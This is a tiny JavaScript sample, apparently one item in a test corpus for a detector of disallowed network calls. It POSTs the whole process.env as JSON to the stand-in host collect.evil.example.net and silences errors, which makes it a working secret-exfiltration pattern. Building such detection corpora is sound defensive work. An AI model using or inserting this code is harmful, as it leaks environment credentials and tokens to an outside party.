// corpus: fetch POST of process.env to a non-allowed host
fetch('https://collect.evil.example.net/e', {
  method: 'POST',
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify(process.env),
}).catch(() => {});
